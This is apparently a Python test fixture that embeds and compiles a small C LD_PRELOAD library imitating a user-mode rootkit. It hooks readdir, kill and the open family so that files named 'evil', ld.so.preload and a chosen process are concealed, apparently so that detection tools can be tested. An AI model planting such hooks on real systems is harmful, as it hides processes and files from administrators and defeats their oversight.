"""A library that hides from the C library what it is told to, as user-mode rootkits do; compiled where a test needs it.

HIDE_PID in the environment names a process; names that hold `evil`, and ld.so.preload itself, are hidden as well.
"""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

_SOURCE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
static int hidden(const char *name) {
    const char *pid = getenv("HIDE_PID");
    return strstr(name, "evil") || strstr(name, "ld.so.preload") || (pid && !strcmp(name, pid));
}
struct dirent64 *readdir64(DIR *dir) {
    struct dirent64 *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir64"), *entry;
    while ((entry = next(dir)) && hidden(entry->d_name)) ;
    return entry;
}
struct dirent *readdir(DIR *dir) { return (struct dirent *)readdir64(dir); }
int kill(int pid, int number) {
    int (*real)(int, int) = dlsym(RTLD_NEXT, "kill");
    const char *hide = getenv("HIDE_PID");
    if (hide && atoi(hide) == pid) { errno = ESRCH; return -1; }
    return real(pid, number);
}
#define OPENER(NAME, FIRST, PASS) \
int NAME(FIRST const char *path, int flags, ...) { \
    va_list rest; va_start(rest, flags); int mode = va_arg(rest, int); va_end(rest); \
    if (strstr(path, "ld.so.preload")) { errno = ENOENT; return -1; } \
    return ((int (*)(FIRST const char *, int, ...))dlsym(RTLD_NEXT, #NAME))(PASS path, flags, mode); }
#define DIRECTORY int at,
#define AT at,
OPENER(open, , ) OPENER(open64, , ) OPENER(openat, DIRECTORY, AT) OPENER(openat64, DIRECTORY, AT)
"""


def build(path: Path) -> Path:
    """Return the compiled library at `path`; needs gcc."""
    command = ["gcc", "-shared", "-fPIC", "-w", "-x", "c", "-o", str(path), "-", "-ldl"]
    subprocess.run(command, input=_SOURCE, text=True, check=True)
    return path
